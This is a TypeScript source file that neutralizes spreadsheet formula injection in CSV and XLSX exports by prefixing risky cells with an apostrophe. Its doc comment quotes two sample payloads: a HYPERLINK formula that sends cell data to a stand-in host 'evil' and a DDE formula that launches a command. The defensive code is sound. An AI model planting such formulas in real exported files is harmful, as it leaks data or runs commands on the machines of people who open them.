/**
 * Cells the product writes into CSV or XLSX files (the gateway's CSV and XLSX answers, the demo's
 * files, import reports), made safe to open in a spreadsheet. A text cell starting with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a
 * formula (`=HYPERLINK("http://evil/?"&A1, "click")`, `=cmd|' /C calc'!A0`), which runs or leaks
 * data when the file is opened (CSV injection, OWASP). Leading spaces do not help (some
 * spreadsheets trim them), nor do the full-width forms that Excel's East Asian input also reads
 * as formulas. Such a cell is written with a leading apostrophe, which spreadsheets show as text
 * and do not evaluate. Numbers are left alone: a negative number is a number, not a formula, and
 * must stay one in an XLSX cell.
 *
 * Use `safeCell` on every value, or `safeRow` on every row, of any CSV or XLSX the product writes.
 */

const FORMULA_START = /^[\s\u3000]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** `text`, with a leading `'` when a spreadsheet would read it as a formula. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A cell value as it may be written: text neutralized, numbers, dates, booleans and empty cells as they are. */
export function safeCell<T>(value: T): T | string {
  return typeof value === 'string' ? neutralizeFormula(value) : value;
}

/** Every cell of a row (an object by column, or an array) through `safeCell`. */
export function safeRow<R extends Record<string, unknown> | unknown[]>(row: R): R {
  if (Array.isArray(row)) return row.map(safeCell) as R;
  const out: Record<string, unknown> = {};
  for (const [key, value] of Object.entries(row)) out[key] = safeCell(value);
  return out as R;
}
